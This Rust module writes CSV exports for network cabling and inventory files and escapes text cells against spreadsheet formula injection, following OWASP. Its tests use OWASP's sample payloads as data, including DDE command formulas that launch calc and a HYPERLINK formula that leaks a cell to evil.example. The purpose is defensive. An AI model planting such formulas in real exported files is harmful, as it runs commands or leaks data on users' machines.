//! The one writer of railyard's CSV files (cabling plan, NetBox import, port maps, BOM, address
//! plan) and the one escape of their text cells.
//!
//! Spreadsheets read a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a
//! formula (OWASP, "CSV Injection"): a device, port or model text from a spec could make
//! `cabling.csv` run a formula on the installer's machine. As OWASP advises, such a text cell is
//! written with a leading `'`, which spreadsheets take as "this is text".
//!
//! A cell does not begin only where the writer put it: a spreadsheet whose list separator is `;`
//! (most of continental Europe) or that splits on tabs reads `gpu;=cmd|' /C calc'!A0` as two
//! cells, the second a formula, and one that does not honour the quotes splits a quoted
//! `"a,=b"` at its comma (OWASP's examples `=1+2";=1+2` and `=1+2'" ;,=1+2` are this attack).
//! So the rule applies wherever a cell could begin: at the start of the text and after each
//! separator a spreadsheet may use (`,` `;` tab, and a line break, which ends a row for a reader
//! that ignores quotes). A `"` there is neutralised too: such a reader would open a quoted cell
//! with it, whose text is again a formula.
//!
//! A text that already has `'` at such a place gets one more, so the escape is reversible:
//! [`uncell`] strips exactly the quotes [`cell`] added, and the report and workbook, which read
//! the CSV files back, show the names as the spec, the labels and the configs have them. Numeric
//! columns (lengths, planes, rails, quantities) are written as numbers, never quoted.
//!
//! Every row has the header's width; anything else is an error of the writer, never a short row.

use std::borrow::Cow;

/// The first characters a spreadsheet reads as the start of a formula (OWASP), `"` (the start of
/// a quoted cell for a reader that splits on a separator of its own), and `'` itself, so that
/// [`uncell`] can tell an added quote from one of the text.
const NEUTRALISED: [char; 8] = ['=', '+', '-', '@', '\t', '\r', '"', '\''];

/// Where a spreadsheet may begin a new cell: after the separators OWASP names (`,` `;` tab) and
/// after a line break.
const SEPARATORS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// Whether a cell could begin after `prev` (`None`: the start of the text).
fn cell_starts_after(prev: Option<char>) -> bool {
    prev.is_none_or(|c| SEPARATORS.contains(&c))
}

/// A text cell as written: `'` before each formula character (or `'`) where a cell could begin.
pub fn cell(text: &str) -> Cow<'_, str> {
    let mut prev = None;
    let needs = text.chars().any(|c| {
        let hit = cell_starts_after(prev) && NEUTRALISED.contains(&c);
        prev = Some(c);
        hit
    });
    if !needs {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 4);
    let mut prev = None;
    for c in text.chars() {
        if cell_starts_after(prev) && NEUTRALISED.contains(&c) {
            out.push('\'');
        }
        out.push(c);
        prev = Some(c);
    }
    Cow::Owned(out)
}

/// A cell as read back: the text [`cell`] was given (each quote it added removed).
pub fn uncell(field: &str) -> Cow<'_, str> {
    let mut prev = None;
    let mut chars = field.chars().peekable();
    let mut out: Option<String> = None;
    let mut at = 0;
    // The character after an added quote is the text's own, even when it is a quote itself.
    let mut after_added = false;
    while let Some(c) = chars.next() {
        let added = !after_added
            && c == '\''
            && cell_starts_after(prev)
            && chars.peek().is_some_and(|n| NEUTRALISED.contains(n));
        after_added = added;
        if added {
            out.get_or_insert_with(|| field[..at].to_string());
        } else {
            if let Some(o) = out.as_mut() {
                o.push(c);
            }
            prev = Some(c);
        }
        at += c.len_utf8();
    }
    out.map_or(Cow::Borrowed(field), Cow::Owned)
}

/// A column of a CSV file: its header and whether its values are numbers.
#[derive(Clone, Copy, Debug)]
pub struct Column {
    pub name: &'static str,
    pub number: bool,
}

impl Column {
    pub const fn text(name: &'static str) -> Self {
        Self {
            name,
            number: false,
        }
    }

    pub const fn number(name: &'static str) -> Self {
        Self { name, number: true }
    }
}

/// Why a CSV file could not be written (a bug in railyard: a row of the wrong width).
#[derive(Debug)]
pub struct CsvError(String);

impl std::fmt::Display for CsvError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "cannot write CSV: {}", self.0)
    }
}

impl std::error::Error for CsvError {}

/// A CSV file being written: the header first, then rows of exactly its width, `\n` line ends.
pub struct Writer {
    out: csv::Writer<Vec<u8>>,
    columns: Vec<Column>,
    /// The first failure; [`Writer::finish`] returns it instead of the bytes.
    failed: Option<CsvError>,
    /// Reused for every row.
    record: Vec<String>,
}

impl Writer {
    pub fn new(columns: &[Column]) -> Self {
        let mut w = Self {
            out: csv::WriterBuilder::new()
                .terminator(csv::Terminator::Any(b'\n'))
                .from_writer(Vec::new()),
            columns: columns.to_vec(),
            failed: None,
            record: Vec::with_capacity(columns.len()),
        };
        let header: Vec<&str> = columns.iter().map(|c| c.name).collect();
        w.row(header.iter().copied());
        w
    }

    /// One row: text cells through [`cell`], numeric cells as they are when they are numbers
    /// (anything else in a numeric column is escaped as text).
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) {
        if self.failed.is_some() {
            return;
        }
        self.record.clear();
        for (i, value) in cells.into_iter().enumerate() {
            let number = self.columns.get(i).is_some_and(|c| c.number)
                && (value.is_empty() || value.parse::<f64>().is_ok_and(f64::is_finite));
            self.record.push(if number {
                value.to_string()
            } else {
                cell(value).into_owned()
            });
        }
        if self.record.len() != self.columns.len() {
            self.failed = Some(CsvError(format!(
                "a row of {} cells under a header of {}",
                self.record.len(),
                self.columns.len()
            )));
            return;
        }
        if let Err(e) = self.out.write_record(&self.record) {
            self.failed = Some(CsvError(e.to_string()));
        }
    }

    /// The file's bytes, or the first failure.
    pub fn finish(self) -> Result<Vec<u8>, CsvError> {
        if let Some(e) = self.failed {
            return Err(e);
        }
        self.out
            .into_inner()
            .map_err(|e| CsvError(e.error().to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The examples of OWASP's "CSV Injection" page, and the characters it lists.
    #[test]
    fn formula_cells_are_neutralised_as_owasp_advises() {
        let hostile = [
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click for details\")",
            "=cmd|' /C calc'!A0",
            "+1+2",
            "-1+2",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
        ];
        for text in hostile {
            let c = cell(text);
            assert!(c.starts_with(&format!("'{}", &text[..1])), "{text:?}");
            assert_eq!(uncell(&c), text);
        }
        for plain in ["leaf01", "swp1s0", "10.0.0.1/31", "fd00::1/127", "", " =x"] {
            assert_eq!(cell(plain), plain);
            assert_eq!(uncell(plain), plain);
        }
        // A text that begins with a quote keeps it: one more is added and removed again.
        assert_eq!(cell("'=x"), "''=x");
        assert_eq!(uncell(&cell("'=x")), "'=x");
        assert_eq!(uncell(&cell("'plain")), "'plain");
    }

    /// Behind a separator a spreadsheet may use (`,` `;` tab, a line break), a formula start is
    /// neutralised as at the start: split the written cell at every separator, and no piece
    /// begins a formula (or a quoted cell); the escape reads back to the text.
    #[test]
    fn formula_starts_behind_a_separator_are_neutralised() {
        let hostile = [
            "gpu;=cmd|' /C calc'!A0",
            "gpu,=cmd|' /C calc'!A0",
            "gpu\t=cmd",
            "a;+1;-1;@SUM(1)",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "x;\"=y\"",
            "a\t\t=x",
            "a;'=x",
            "a;''=x",
            "a\n=x",
            "a;;=x",
            ";",
            "a;'",
        ];
        for text in hostile {
            let c = cell(text);
            for piece in c.split(SEPARATORS).skip(1) {
                assert!(
                    !piece.starts_with(['=', '+', '-', '@', '"']),
                    "{text:?} -> {c:?}: piece {piece:?}"
                );
            }
            assert!(!c.starts_with(['=', '+', '-', '@', '"']), "{text:?}");
            assert_eq!(uncell(&c), text, "{text:?} -> {c:?}");
        }
        for plain in ["gpu; x", "a,b", "800G, 2x400G"] {
            assert_eq!(cell(plain), plain);
            assert_eq!(uncell(plain), plain);
        }
    }

    /// What the csv crate reads back: the neutralised text in its cell, numbers as numbers, every
    /// row of the header's width.
    #[test]
    fn rows_read_back_with_their_cells() {
        let mut w = Writer::new(&[Column::text("name"), Column::number("length_m")]);
        w.row(["=cmd|' /C calc'!A0", "-2.5"]);
        w.row(["-leaf", ""]);
        w.row(["x", "=1+2"]);
        let bytes = w.finish().unwrap();
        let mut r = csv::Reader::from_reader(&bytes[..]);
        assert_eq!(r.headers().unwrap(), vec!["name", "length_m"]);
        let rows: Vec<Vec<String>> = r
            .records()
            .map(|x| x.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            rows,
            [
                ["'=cmd|' /C calc'!A0", "-2.5"],
                ["'-leaf", ""],
                ["x", "'=1+2"],
            ]
        );
    }

    #[test]
    fn a_row_of_another_width_is_an_error() {
        let mut w = Writer::new(&[Column::text("a"), Column::text("b")]);
        w.row(["1"]);
        let e = w.finish().unwrap_err();
        assert_eq!(
            e.to_string(),
            "cannot write CSV: a row of 1 cells under a header of 2"
        );
    }
}
